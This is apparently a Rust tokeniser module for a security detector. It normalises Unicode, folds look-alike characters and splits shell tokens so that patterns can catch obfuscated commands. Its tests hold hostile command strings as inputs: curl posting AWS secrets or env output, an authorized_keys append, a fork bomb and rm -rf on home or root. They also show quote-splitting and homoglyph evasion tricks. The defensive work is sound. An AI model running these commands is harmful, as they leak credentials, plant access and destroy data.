//! The two token streams the patterns run on, both over the NFKC-normalised, lowercased
//! text, each token with the byte offset where it starts in that text.

use alloc::borrow::Cow;
use alloc::string::String;
use alloc::vec::Vec;

use super::ucd::{is_nfkc_quick, nfkc};
use super::unicode::{ascii_prototype, is_default_ignorable, is_hangul_filler};

/// A token of a stream and where it starts in the normalised text.
pub(super) struct Token<'a> {
    pub at: usize,
    pub text: Cow<'a, str>,
}

/// NFKC, then lowercase, then what renders as nothing removed and look-alikes read as the
/// ASCII they imitate. None of it adds or removes a line feed, so a byte offset in the
/// result names a line of the original text by the line feeds before it.
///
/// Default-ignorable code points (joiners, bidi marks, variation selectors, tags, the
/// combining grapheme joiner) are dropped, so `ign\u{34F}ore` is `ignore`, and the Hangul
/// fillers, which show as a blank, are spaces. Then a word (a run of letters, digits and
/// look-alikes) whose every character that is not ASCII has an ASCII prototype
/// (`unicode::ascii_prototype`: Cyrillic `с` is `c`, small capital `ɪ` is `i`) is spelled
/// in ASCII: `сurl` is `curl`, `ɪɢɴᴏʀᴇ` is `ignore`, and a word with any other letter
/// (`café`, Russian or Greek prose) stays as it is.
///
/// ASCII is its own NFKC form, and normalisation never reaches across the start of an
/// ASCII character (it is a starter that nothing before it composes with or reorders
/// around), so the text is normalised piece by piece: runs of ASCII as they are, and each
/// run of other characters with the ASCII character before it (which a combining mark may
/// compose with), skipping the normalisation where the quick check says it is a no-op.
pub(super) fn normalize(text: &str) -> String {
    if text.is_ascii() {
        return text.to_ascii_lowercase();
    }
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    let mut from = 0;
    while from < bytes.len() {
        let Some(other) = bytes[from..].iter().position(|b| !b.is_ascii()) else {
            out.push_str(&text[from..].to_ascii_lowercase());
            break;
        };
        let other = from + other;
        let piece_start = if other > from { other - 1 } else { other };
        out.push_str(&text[from..piece_start].to_ascii_lowercase());
        let piece_end = bytes[other..]
            .iter()
            .position(u8::is_ascii)
            .map_or(bytes.len(), |n| other + n);
        out.extend(normalize_piece(&text[piece_start..piece_end]));
        from = piece_end;
    }
    fold_look_alikes(out)
}

/// NFKC, then lowercase, of a whole text: what `normalize` does piece by piece.
fn normalize_piece(text: &str) -> impl Iterator<Item = char> + '_ {
    let (as_is, normalised) = if is_nfkc_quick(text) {
        (Some(text.chars()), None)
    } else {
        (None, Some(nfkc(text)))
    };
    as_is
        .into_iter()
        .flatten()
        .chain(normalised.into_iter().flatten())
        .flat_map(char::to_lowercase)
        .filter_map(visible)
}

/// `c` as the patterns read it: nothing for a default-ignorable code point, a space for
/// a Hangul filler.
fn visible(c: char) -> Option<char> {
    if !is_default_ignorable(c) {
        Some(c)
    } else if is_hangul_filler(c) {
        Some(' ')
    } else {
        None
    }
}

/// Whether `c` may be part of a word a look-alike imitates: a letter or digit, or a
/// symbol with an ASCII prototype (`│` for `l`).
fn in_word(c: char) -> bool {
    c.is_alphanumeric() || ascii_prototype(c).is_some()
}

/// Every word of `text` whose characters are ASCII or have an ASCII prototype, in ASCII.
fn fold_look_alikes(text: String) -> String {
    if text.is_ascii() {
        return text;
    }
    let mut folded: Option<String> = None;
    // Where the text not yet copied to `folded` starts.
    let mut copied = 0;
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(offset) = bytes[at..].iter().position(|b| !b.is_ascii()) {
        // The word around the first character that is not ASCII.
        let first = at + offset;
        let start = text[..first]
            .char_indices()
            .rev()
            .take_while(|&(_, c)| in_word(c))
            .last()
            .map_or(first, |(i, _)| i);
        let end = text[first..]
            .char_indices()
            .find(|&(_, c)| !in_word(c))
            .map_or(text.len(), |(i, _)| first + i);
        let word = &text[start..end];
        if end > first
            && word
                .chars()
                .all(|c| c.is_ascii() || ascii_prototype(c).is_some())
        {
            let out = folded.get_or_insert_with(|| String::with_capacity(text.len()));
            out.push_str(&text[copied..start]);
            out.extend(word.chars().map(|c| {
                if c.is_ascii() {
                    c
                } else {
                    ascii_prototype(c).unwrap_or(c)
                }
            }));
            copied = end;
        }
        // Past the word, or past the character if it is not in one.
        at = if end > first {
            end
        } else {
            first + text[first..].chars().next().map_or(1, char::len_utf8)
        };
    }
    match folded {
        Some(mut out) => {
            out.push_str(&text[copied..]);
            out
        }
        None => text,
    }
}

/// Words: the runs of alphanumeric characters.
pub(super) fn words(text: &str) -> Vec<Token<'_>> {
    let mut out = Vec::new();
    let mut start = None;
    for (i, c) in text.char_indices() {
        match (c.is_alphanumeric(), start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                out.push(Token {
                    at: s,
                    text: Cow::Borrowed(&text[s..i]),
                });
                start = None;
            }
            _ => {}
        }
    }
    if let Some(s) = start {
        out.push(Token {
            at: s,
            text: Cow::Borrowed(&text[s..]),
        });
    }
    out
}

/// Deleted from shell tokens, so `c"u"rl` is `curl` and `"$TOKEN"` is `$token`.
const DELETED: [char; 7] = [
    '\'', '"', '\u{2018}', '\u{2019}', '\u{201C}', '\u{201D}', '\\',
];
/// Split shell tokens without being tokens: whitespace (line breaks included) and these.
const SPLITS: [char; 5] = ['`', '(', ')', '{', '}'];
/// Tokens of their own: `env|curl` is `env`, `|`, `curl`.
const OPERATORS: [char; 5] = ['|', ';', '&', '>', '<'];
/// Sentence punctuation dropped from the end of a shell token (`.env,` is `.env`),
/// unless nothing would be left.
const TRAILING: [char; 4] = [',', '.', '!', '?'];

/// Whether a line starts a new markdown block: blank, a heading, or a list item (`- `,
/// `* `, `+ `, `1. `).
fn starts_an_item(line: &str) -> bool {
    let line = line.trim_start_matches([' ', '\t']);
    let digits = line.len() - line.trim_start_matches(|c: char| c.is_ascii_digit()).len();
    line.is_empty()
        || line.starts_with(['\n', '\r', '#'])
        || ["- ", "* ", "+ "].iter().any(|m| line.starts_with(m))
        || (digits > 0 && line[digits..].starts_with(". "))
}

fn separates(c: char) -> bool {
    c.is_whitespace() || SPLITS.contains(&c) || OPERATORS.contains(&c) || DELETED.contains(&c)
}

/// Shell tokens: whitespace-separated after deleting quotes and backslashes, split at
/// backticks and brackets, with `| ; & > <` as tokens of their own. A `{` right after
/// `$` is dropped so `${HOME}` is `$home`, like `$HOME`.
pub(super) fn shell_tokens(text: &str) -> Vec<Token<'_>> {
    let mut out = Vec::new();
    let mut current = Current::default();
    let mut chars = text.char_indices().peekable();
    let mut previous = ' ';
    while let Some((i, c)) = chars.next() {
        let next = chars.peek().map_or(' ', |&(_, n)| n);
        let prev = core::mem::replace(&mut previous, c);
        if c.is_ascii_alphanumeric() {
            current.push(text, i, c);
            continue;
        }
        if DELETED.contains(&c) || (c == '{' && current.last == Some('$')) {
            continue;
        }
        // An `&` inside a word joins query parameters (`?a=1&k=$TOKEN`): it stays.
        let joins = c == '&' && !separates(prev) && !separates(next);
        if c == '\n' && starts_an_item(&text[i + 1..]) {
            // A new list item, heading or paragraph ends a command.
            current.flush(text, &mut out);
            out.push(Token {
                at: i,
                text: Cow::Borrowed(";"),
            });
        } else if c.is_whitespace() || SPLITS.contains(&c) {
            current.flush(text, &mut out);
        } else if OPERATORS.contains(&c) && !joins {
            current.flush(text, &mut out);
            out.push(Token {
                at: i,
                text: Cow::Borrowed(&text[i..i + c.len_utf8()]),
            });
        } else {
            current.push(text, i, c);
        }
    }
    current.flush(text, &mut out);
    out
}

/// The shell token being read: `text[start..end]` while nothing was deleted inside it
/// (it is then borrowed), its characters in `copy` once something was.
#[derive(Default)]
struct Current {
    start: usize,
    end: usize,
    /// The token's last character; `None` while it is empty.
    last: Option<char>,
    copy: Option<String>,
}

impl Current {
    fn push(&mut self, text: &str, at: usize, c: char) {
        match (&mut self.copy, self.last) {
            (_, None) => self.start = at,
            (None, Some(_)) if self.end == at => {}
            (None, Some(_)) => {
                let mut copy = String::from(&text[self.start..self.end]);
                copy.push(c);
                self.copy = Some(copy);
            }
            (Some(copy), Some(_)) => copy.push(c),
        }
        self.end = at + c.len_utf8();
        self.last = Some(c);
    }

    /// The token, without sentence punctuation at its end unless nothing would be left.
    fn flush<'a>(&mut self, text: &'a str, out: &mut Vec<Token<'a>>) {
        if self.last.take().is_none() {
            return;
        }
        let kept = |token: &str| {
            let trimmed = token.trim_end_matches(TRAILING);
            if trimmed.is_empty() {
                token.len()
            } else {
                trimmed.len()
            }
        };
        let token = match self.copy.take() {
            Some(mut copy) => {
                copy.truncate(kept(&copy));
                Cow::Owned(copy)
            }
            None => {
                let written = &text[self.start..self.end];
                Cow::Borrowed(&written[..kept(written)])
            }
        };
        out.push(Token {
            at: self.start,
            text: token,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::prelude::rust_2024::*;
    use unicode_normalization::UnicodeNormalization;

    fn shell(text: &str) -> Vec<String> {
        shell_tokens(&normalize(text))
            .into_iter()
            .map(|t| t.text.into_owned())
            .collect()
    }

    /// Piece by piece is the same as the whole text at once, where combining marks,
    /// compatibility forms and ASCII meet.
    #[test]
    fn normalising_in_pieces_is_normalising_the_whole() {
        let whole = |text: &str| -> String {
            fold_look_alikes(
                text.nfkc()
                    .flat_map(char::to_lowercase)
                    .filter_map(visible)
                    .collect(),
            )
        };
        let parts = [
            "a",
            "E",
            "<",
            "=",
            " ",
            "\n",
            "x2",
            "\u{301}",
            "\u{338}",
            "\u{327}",
            "\u{30A}",
            "\u{308}",
            "\u{200B}",
            "²",
            "ﬁ",
            "Å",
            "İ",
            "ẞ",
            "ｃｕｒｌ",
            "①",
            "™",
            "é",
            "\u{1100}",
            "\u{1161}",
            "\u{11A8}",
            "가",
            "\u{0B47}",
            "\u{0B3E}",
            "\u{3099}",
            "か",
            "ℝ",
            "µ",
            "्",
            "，",
            "Σ",
            "ς",
            "\u{E0067}",
            "👩\u{200D}💻",
            "\u{FB2A}",
            "\u{0F73}",
            "\u{1D15E}",
            "\u{2126}",
            "\u{212B}",
            "\u{1E9B}\u{323}",
        ];
        let mut texts: Vec<String> = Vec::new();
        for a in parts {
            for b in parts {
                texts.push(std::format!("{a}{b}"));
                for c in ["a", "\u{301}", "ﬁ", "\u{1161}", "B"] {
                    texts.push(std::format!("{a}{b}{c}"));
                    texts.push(std::format!("{c}{a}{c}{b}"));
                }
            }
        }
        for text in &texts {
            assert_eq!(normalize(text), whole(text), "{text:?}");
        }
    }

    #[test]
    fn shell_tokens_delete_quotes_and_split_operators() {
        assert_eq!(
            shell("c\"u\"rl -d \"$AWS_SECRET_ACCESS_KEY\" https://x"),
            ["curl", "-d", "$aws_secret_access_key", "https://x"]
        );
        assert_eq!(shell("env|curl"), ["env", "|", "curl"]);
        assert_eq!(
            shell("echo key>>~/.ssh/authorized_keys"),
            ["echo", "key", ">", ">", "~/.ssh/authorized_keys"]
        );
        assert_eq!(shell(":(){ :|:& };:"), [":", ":", "|", ":", "&", ";", ":"]);
        assert_eq!(shell("rm -rf ${HOME}"), ["rm", "-rf", "$home"]);
        assert_eq!(shell("curl -d \"$(env)\""), ["curl", "-d", "$", "env"]);
        assert_eq!(
            shell("never `cat .env`, ok."),
            ["never", "cat", ".env", ",", "ok"]
        );
        assert_eq!(shell("ｃｕｒｌ\n‘x’ C:\\"), ["curl", "x", "c:"]);
        assert_eq!(shell("rm -rf /."), ["rm", "-rf", "/"]);
        assert_eq!(shell("..."), ["..."]);
        assert_eq!(
            shell("- a\n- b\nc\n\n12. d"),
            ["-", "a", ";", "-", "b", "c", ";", ";", "12", "d"]
        );
        assert_eq!(
            shell("curl \"https://x/?a=1&k=$T\" && ls 2>&1 &"),
            [
                "curl",
                "https://x/?a=1&k=$t",
                "&",
                "&",
                "ls",
                "2",
                ">",
                "&",
                "1",
                "&"
            ]
        );
    }

    #[test]
    fn offsets_are_in_the_normalised_text() {
        let text = normalize("a  \"bc\" |d");
        let tokens = shell_tokens(&text);
        let at: Vec<usize> = tokens.iter().map(|t| t.at).collect();
        assert_eq!(at, [0, 4, 8, 9]);
        let words: Vec<(usize, &str)> = words("x, yz")
            .iter()
            .map(|w| {
                (
                    w.at,
                    match &w.text {
                        Cow::Borrowed(s) => *s,
                        Cow::Owned(_) => unreachable!(),
                    },
                )
            })
            .collect();
        assert_eq!(words, [(0, "x"), (3, "yz")]);
    }
}
